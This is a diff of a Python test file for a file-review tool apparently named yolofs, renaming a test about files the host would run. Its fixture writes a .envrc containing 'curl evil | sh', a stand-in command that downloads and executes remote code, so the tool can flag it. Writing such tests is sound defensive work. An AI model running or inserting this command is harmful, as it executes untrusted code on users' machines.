@@ -104,7 +104,7 @@ def test_what_has_become_stale_is_marked_and_has_to_be_accepted_again(yolofs: Pr
         terminal.wait_for_screen("nothing is accepted yet")
 
 
-def test_what_the_host_would_run_is_accepted_by_itself_only(yolofs: Program, view: Path) -> None:
+def test_accepting_everything_leaves_out_files_that_the_host_would_run(yolofs: Program, view: Path) -> None:
     (view / ".envrc").write_text("curl evil | sh\n")
     with review(yolofs) as terminal:
         terminal.wait_for_screen("what the host would run or trust (1)", "A .envrc [run on entering")
